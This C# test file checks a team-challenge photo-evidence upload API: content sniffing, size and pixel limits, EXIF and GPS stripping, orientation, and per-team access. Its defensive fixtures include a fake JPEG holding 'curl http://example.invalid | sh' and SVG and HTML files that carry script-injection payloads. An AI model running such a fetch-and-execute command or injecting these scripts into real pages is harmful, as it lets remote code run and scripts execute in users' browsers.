using System.Net;
using System.Net.Http.Json;
using System.Text;
using ChallengeHub.Grains.Milestones;
using ChallengeHub.Grains.Teams;
using ChallengeHub.Silo.Evidence;
using Microsoft.AspNetCore.Http;
using SkiaSharp;

namespace ChallengeHub.Silo.Tests.Evidence;

public sealed class EvidenceApiTests(SiloFixture silo)
{
    public static TheoryData<string, byte[], string, string> NotPhotos => new()
    {
        { "a shell script named like a photo", Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://example.invalid | sh\n"), "foto.jpg", "image/jpeg" },
        { "an SVG with a script", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), "foto.svg", "image/svg+xml" },
        { "an SVG named like a PNG", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"), "foto.png", "image/png" },
        { "a GIF", [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3B], "foto.gif", "image/gif" },
        { "an HTML page", Encoding.UTF8.GetBytes("<html><body onload=alert(1)></body></html>"), "foto.webp", "image/webp" },
    };

    [Theory]
    [MemberData(nameof(NotPhotos))]
    public async Task AFileThatIsNotAJpegPngOrWebpByContentIsRefusedWith415AndNothingIsStored(string what, byte[] content, string fileName, string contentType)
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);

        using var response = await http.UploadAsync(team, content, fileName, contentType);

        await EvidenceApiClient.AssertProblemAsync(response, StatusCodes.Status415UnsupportedMediaType);
        Assert.True((await http.ListPhotosAsync(team)).Length == 0, $"{what} left a photo behind.");
    }

    [Fact]
    public async Task ATruncatedJpegIsRefusedAndNothingIsStored()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);
        var jpeg = TestPhotos.NoisyJpeg(400, 300);

        using var response = await http.UploadAsync(team, jpeg[..(jpeg.Length / 2)]);

        var problem = await EvidenceApiClient.AssertProblemAsync(response, StatusCodes.Status400BadRequest);
        Assert.Equal("Photo could not be read", problem.GetProperty("title").GetString());
        Assert.Empty(await http.ListPhotosAsync(team));
    }

    [Theory]
    [InlineData(10_000, 5_000)]
    [InlineData(12_001, 100)]
    public async Task APhotoClaimingTooManyPixelsIsRefusedFromItsHeaderBeforeDecoding(int width, int height)
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);

        // The image data after the header is nonsense: a decoder would call the file damaged, so this title shows no decoding happened.
        using var response = await http.UploadAsync(team, TestPhotos.PngHeaderClaiming(width, height), "foto.png", "image/png");

        var problem = await EvidenceApiClient.AssertProblemAsync(response, StatusCodes.Status400BadRequest);
        Assert.Equal("Photo has too many pixels", problem.GetProperty("title").GetString());
        Assert.Empty(await http.ListPhotosAsync(team));
    }

    [Fact]
    public async Task AFileOverTheSizeLimitIsRefusedWith413AndNothingIsStored()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);
        var oversize = new byte[PhotoProcessor.MaxBytes + 1];
        TestPhotos.NoisyJpeg(16, 16).CopyTo(oversize, 0);

        using var response = await http.UploadAsync(team, oversize);

        await EvidenceApiClient.AssertProblemAsync(response, StatusCodes.Status413PayloadTooLarge);
        Assert.Empty(await http.ListPhotosAsync(team));
    }

    [Fact]
    public async Task ABodyDeclaredOverTheRequestLimitIsRefusedWith413BeforeItIsSent()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);
        using var request = new HttpRequestMessage(HttpMethod.Post, EvidenceApiClient.EvidencePath(team))
        {
            Content = new ByteArrayContent(new byte[PhotoUpload.MaxBodyBytes + 1]),
        };
        request.Content.Headers.ContentType = System.Net.Http.Headers.MediaTypeHeaderValue.Parse("multipart/form-data; boundary=grens");

        // The client waits for the server's go-ahead, so the answer can only come from the declared length: nothing was read.
        request.Headers.ExpectContinue = true;

        using var response = await http.SendAsync(request, TestContext.Current.CancellationToken);

        await EvidenceApiClient.AssertProblemAsync(response, StatusCodes.Status413PayloadTooLarge);
        Assert.Empty(await http.ListPhotosAsync(team));
    }

    [Fact]
    public async Task AJpegWithGpsExifIsStoredWithoutAnyMetadata()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);
        var upload = TestPhotos.WithExif(TestPhotos.Encode(64, 48, SKEncodedImageFormat.Jpeg));
        Assert.Equal(["Exif"], TestPhotos.MetadataSegments(upload));
        Assert.True(TestPhotos.MentionsGps(upload));

        var photo = await http.UploadPhotoAsync(team, upload);
        var stored = await http.DownloadAsync(team, photo.Id);

        Assert.Empty(TestPhotos.MetadataSegments(stored));
        Assert.False(TestPhotos.MentionsGps(stored));
        Assert.True(stored.AsSpan().IndexOf("SchoolTablet"u8) < 0, "The camera's make survived.");
        Assert.Equal((64, 48, stored.LongLength), (photo.Width, photo.Height, photo.ByteLength));
    }

    [Fact]
    public async Task AJpegWithOrientationSixIsStoredTurnedUpright()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);

        // Stored sideways (left half red), shown turned a quarter clockwise: upright, the red half is at the top.
        var photo = await http.UploadPhotoAsync(team, TestPhotos.WithExif(TestPhotos.Encode(80, 40, SKEncodedImageFormat.Jpeg), orientation: 6));
        using var stored = SKBitmap.Decode(await http.DownloadAsync(team, photo.Id));

        Assert.Equal((40, 80), (photo.Width, photo.Height));
        Assert.Equal((40, 80), (stored.Width, stored.Height));
        AssertClose(TestPhotos.Left, stored.GetPixel(20, 10));
        AssertClose(TestPhotos.Right, stored.GetPixel(20, 70));
    }

    [Theory]
    [InlineData(SKEncodedImageFormat.Png, "foto.png", "image/png")]
    [InlineData(SKEncodedImageFormat.Webp, "foto.webp", "image/webp")]
    [InlineData(SKEncodedImageFormat.Jpeg, "foto.jpg", "image/jpeg")]
    public async Task JpegPngAndWebpAreStoredAsJpegAndServedPrivately(SKEncodedImageFormat format, string fileName, string contentType)
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);

        using var uploaded = await http.UploadAsync(team, TestPhotos.Encode(120, 90, format, transparent: format != SKEncodedImageFormat.Jpeg), fileName, contentType);
        Assert.Equal(HttpStatusCode.Created, uploaded.StatusCode);
        var photo = (await uploaded.Content.ReadFromJsonAsync<Grains.Evidence.EvidencePhoto>(ApiClient.Json, TestContext.Current.CancellationToken))!;
        using var served = await http.GetAsync($"{EvidenceApiClient.EvidencePath(team)}/{photo.Id}", TestContext.Current.CancellationToken);
        var bytes = await served.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);

        Assert.Equal(new Uri(http.BaseAddress!, $"{EvidenceApiClient.EvidencePath(team)}/{photo.Id}"), new Uri(http.BaseAddress!, uploaded.Headers.Location!));
        Assert.Equal(HttpStatusCode.OK, served.StatusCode);
        Assert.Equal("image/jpeg", served.Content.Headers.ContentType?.MediaType);
        Assert.True(served.Headers.CacheControl?.Private);
        Assert.Equal((120, 90, "image/jpeg", team.Id), (photo.Width, photo.Height, photo.ContentType, photo.TeamId));
        using var stored = SKBitmap.Decode(bytes);
        Assert.Equal((SKEncodedImageFormat.Jpeg, 120, 90), (PhotoProcessor.Sniff(bytes), stored.Width, stored.Height));
        Assert.Equal([photo.Id], (await http.ListPhotosAsync(team)).Select(p => p.Id));
    }

    [Fact]
    public async Task ALargePhotoIsScaledDownToTheStoredLongSide()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);

        var photo = await http.UploadPhotoAsync(team, TestPhotos.Encode(4096, 1024, SKEncodedImageFormat.Jpeg));

        Assert.Equal((PhotoProcessor.MaxStoredSide, PhotoProcessor.MaxStoredSide / 4), (photo.Width, photo.Height));
    }

    [Fact]
    public async Task APhotoOfTeamAIsNotServedUnderTeamBOrAnotherChallenge()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);
        var other = await http.RegisterTeamAsync(team.ChallengeId, "Volt Vooruit");
        var elsewhere = await TeamAsync(http);
        var photo = await http.UploadPhotoAsync(team, TestPhotos.Encode(32, 32, SKEncodedImageFormat.Png));

        using var underOther = await http.GetAsync($"{EvidenceApiClient.EvidencePath(other)}/{photo.Id}", TestContext.Current.CancellationToken);
        using var underOtherChallenge = await http.GetAsync(
            $"/api/challenges/{elsewhere.ChallengeId}/teams/{team.Id}/evidence/{photo.Id}", TestContext.Current.CancellationToken);
        using var unknown = await http.GetAsync($"{EvidenceApiClient.EvidencePath(team)}/{Guid.NewGuid()}", TestContext.Current.CancellationToken);

        await EvidenceApiClient.AssertProblemAsync(underOther, StatusCodes.Status404NotFound);
        await EvidenceApiClient.AssertProblemAsync(underOtherChallenge, StatusCodes.Status404NotFound);
        await EvidenceApiClient.AssertProblemAsync(unknown, StatusCodes.Status404NotFound);
        Assert.Empty(await http.ListPhotosAsync(other));
    }

    [Fact]
    public async Task AnUploadForAnUnknownTeamOrAsJsonIsRefusedWithProblemDetails()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);
        var stranger = team with { Id = Guid.NewGuid() };

        using var unknownTeam = await http.UploadAsync(stranger, TestPhotos.Encode(16, 16, SKEncodedImageFormat.Png));
        using var json = await http.PostAsJsonAsync(EvidenceApiClient.EvidencePath(team), new { photo = "aGFsbG8=" }, TestContext.Current.CancellationToken);

        await EvidenceApiClient.AssertProblemAsync(unknownTeam, StatusCodes.Status404NotFound);
        await EvidenceApiClient.AssertProblemAsync(json, StatusCodes.Status415UnsupportedMediaType);
        Assert.Empty(await http.ListPhotosAsync(team));
    }

    [Fact]
    public async Task AMilestoneShowsTheTeamsOwnPhotoButAForeignPhotoIsRefusedWith422()
    {
        using var http = silo.CreateClient();
        var team = await TeamAsync(http);
        var other = await http.RegisterTeamAsync(team.ChallengeId, "Volt Vooruit");
        var own = await http.UploadPhotoAsync(team, TestPhotos.Encode(32, 32, SKEncodedImageFormat.Jpeg));
        var foreign = await http.UploadPhotoAsync(other, TestPhotos.Encode(32, 32, SKEncodedImageFormat.Jpeg));
        var path = $"/api/challenges/{team.ChallengeId}/teams/{team.Id}/milestones";

        using var refused = await http.PostAsJsonAsync(path, new { title = "Behuizing", competenceIds = Array.Empty<string>(), photoIds = new[] { foreign.Id } },
            ApiClient.Json, TestContext.Current.CancellationToken);
        using var logged = await http.PostAsJsonAsync(path, new { title = "Behuizing", competenceIds = Array.Empty<string>(), photoIds = new[] { own.Id } },
            ApiClient.Json, TestContext.Current.CancellationToken);

        var problem = await EvidenceApiClient.AssertProblemAsync(refused, StatusCodes.Status422UnprocessableEntity);
        Assert.Contains(foreign.Id.ToString(), problem.GetProperty("errors").GetProperty("photoIds")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Created, logged.StatusCode);
        var milestone = (await logged.Content.ReadFromJsonAsync<Milestone>(ApiClient.Json, TestContext.Current.CancellationToken))!;
        Assert.Equal([own.Id], milestone.PhotoIds!.Value);
    }

    private static async Task<TeamDetails> TeamAsync(HttpClient http) =>
        await http.RegisterTeamAsync((await http.CreateChallengeAsync()).Id, "De Fotografen");

    private static void AssertClose(SKColor expected, SKColor actual)
    {
        var distance = Math.Abs(expected.Red - actual.Red) + Math.Abs(expected.Green - actual.Green) + Math.Abs(expected.Blue - actual.Blue);
        Assert.True(distance < 60, $"Expected about {expected}, found {actual}.");
    }
}
